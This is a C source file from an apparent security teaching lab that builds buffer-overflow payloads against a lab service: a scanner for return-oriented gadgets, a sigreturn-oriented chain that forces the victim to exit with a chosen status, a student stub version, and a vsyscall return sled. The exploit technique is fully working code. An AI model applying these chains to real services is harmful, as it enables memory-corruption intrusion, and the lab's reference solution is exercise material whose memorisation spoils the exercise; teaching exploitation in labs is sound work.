/* The payload builder: gadgets found in a page's bytes, and the requests made of them (docs/attack.md). */
#include "attack.h"

#define SLED_WORDS	16	/* rets: wherever the return address is among them, the chain follows */
#define NR_EXIT		60

/*
 * find_gadgets: scan bytes (a copy of the code at base in the victim) for
 * the three pieces of the chain: a ret, "xor %eax,%eax; ret", and a
 * syscall followed only by pops and a ret (the fewest pops wins; a pop is
 * 58..5f, or 41 58..41 5f for r8..r15). An attacker's tool would do the
 * same to the page's bytes; 0 when all three are there.
 *
 * build_srop_exit: the request of fixed-syscall and vdso-*: a length,
 * then the body that overflows the service's buffer, then 15 more bytes.
 *
 *	SLED_WORDS x ret	the saved return address is one of these
 *	zero_rax		xor %eax,%eax; ret: rax = 0, read's number
 *	syscall			read(fd, buf, len) still in rdi, rsi, rdx from the
 *				service's own read: it reads the 15 bytes at the end,
 *				so rax = 15, rt_sigreturn's number; then its pops
 *	pops x filler
 *	syscall			rt_sigreturn: the registers come from the frame below
 *	struct ucontext64	rip = syscall, rax = exit, rdi = CHOSEN_STATUS,
 *				cs and ss as 64-bit user code has them
 *	(end of body) 15 bytes
 *
 * Its addresses come from g only: they differ between builds, and the
 * vDSO's move every run. The length, 0 if the request does not fit in size.
 */

/* LAB attack: BEGIN */
/* How many words a run of pops at p takes, up to a ret; -1 if not pops then a ret. */
static int pops_then_ret(const unsigned char *p, const unsigned char *end)
{
	int pops = 0;

	while (p < end) {
		if (*p == 0xc3)
			return pops;
		if (*p >= 0x58 && *p <= 0x5f)
			p++;
		else if (*p == 0x41 && p + 1 < end && p[1] >= 0x58 && p[1] <= 0x5f)
			p += 2;
		else
			return -1;
		pops++;
	}
	return -1;
}

int find_gadgets(const unsigned char *bytes, size_t len, unsigned long base, struct gadgets *g)
{
	size_t i;
	int pops;

	*g = (struct gadgets){ .syscall_pops = 99 };
	for (i = 0; i < len; i++) {
		if (bytes[i] == 0xc3 && !g->ret)
			g->ret = base + i;
		if (i + 2 < len && bytes[i] == 0x31 && bytes[i + 1] == 0xc0 && bytes[i + 2] == 0xc3 &&
		    !g->zero_rax)
			g->zero_rax = base + i;
		if (i + 1 < len && bytes[i] == 0x0f && bytes[i + 1] == 0x05 &&
		    (pops = pops_then_ret(bytes + i + 2, bytes + len)) >= 0 && pops < g->syscall_pops) {
			g->syscall = base + i;
			g->syscall_pops = pops;
		}
	}
	return g->ret && g->zero_rax && g->syscall ? 0 : -1;
}

static unsigned char *put_word(unsigned char *p, unsigned long w)
{
	memcpy(p, &w, 8);
	return p + 8;
}

size_t build_srop_exit(unsigned char *req, size_t size, const struct gadgets *g)
{
	struct ucontext64 uc = { 0 };
	unsigned char *p = req + 4;
	uint32_t body;
	int i;

	if (size < 4 + (SLED_WORDS + 3 + (size_t)g->syscall_pops) * 8 + sizeof(uc) + NR_RT_SIGRETURN)
		return 0;
	for (i = 0; i < SLED_WORDS; i++)
		p = put_word(p, g->ret);
	p = put_word(p, g->zero_rax);
	p = put_word(p, g->syscall);
	for (i = 0; i < g->syscall_pops; i++)
		p = put_word(p, 0x4141414141414141ul);
	p = put_word(p, g->syscall);
	uc.mc.rip = g->syscall;
	uc.mc.rax = NR_EXIT;
	uc.mc.rdi = CHOSEN_STATUS;
	uc.mc.rsp = 0x10000;		/* any canonical value: exit does not return */
	uc.mc.cs = FRAME_CS;
	uc.mc.ss = FRAME_SS;
	memcpy(p, &uc, sizeof(uc));
	p += sizeof(uc);
	body = p - (req + 4);
	memcpy(req, &body, 4);
	memcpy(p, "fifteen bytes!\n", NR_RT_SIGRETURN);
	return p + NR_RT_SIGRETURN - req;
}

/* LAB attack: STUB
static void say_todo(void)
{
	static int said;

	if (!said++)
		printf("LAB TODO: user/attack/attack_payload.c: find_gadgets() and build_srop_exit() "
		       "are yours to write (docs/labs/07-attack.md)\n");
}

int find_gadgets(const unsigned char *bytes, size_t len, unsigned long base, struct gadgets *g)
{
	say_todo();
	// As the comment at the top says, scan bytes for:
	//  g->ret       a c3 (ret);
	//  g->zero_rax  31 c0 c3 (xor %eax,%eax; ret);
	//  g->syscall   0f 05 (syscall) followed only by pops (58..5f, or
	//               41 58..41 5f for r8..r15) and then a c3: the one with
	//               the fewest pops wins, their count in g->syscall_pops.
	// Each as its address in the victim (base + offset); 0 when all three
	// are there, else -1.
	(void)bytes, (void)len, (void)base;
	*g = (struct gadgets){ 0 };
	return -1;
}

size_t build_srop_exit(unsigned char *req, size_t size, const struct gadgets *g)
{
	say_todo();
	// The request laid out as the comment at the top says: the 4-byte
	// body length, the body (the sled, the chain, a filler word
	// per pop, a struct ucontext64 with the registers exit needs and
	// 64-bit code's cs and ss), then
	// NR_RT_SIGRETURN bytes for the chain's own read. Return the request's
	// length, 0 if it does not fit in size.
	(void)req, (void)size, (void)g;
	return 0;
}
   LAB attack: END */

/* The request of fixed-ret: body_len bytes, every word of them the address of a vsyscall entry. */
size_t build_ret_sled(unsigned char *req, size_t size, unsigned long entry, size_t body_len)
{
	uint32_t body = body_len;
	size_t i;

	if (size < 4 + body_len)
		return 0;
	memcpy(req, &body, 4);
	for (i = 0; i + 8 <= body_len; i += 8)
		memcpy(req + 4 + i, &entry, 8);
	return 4 + body_len;
}
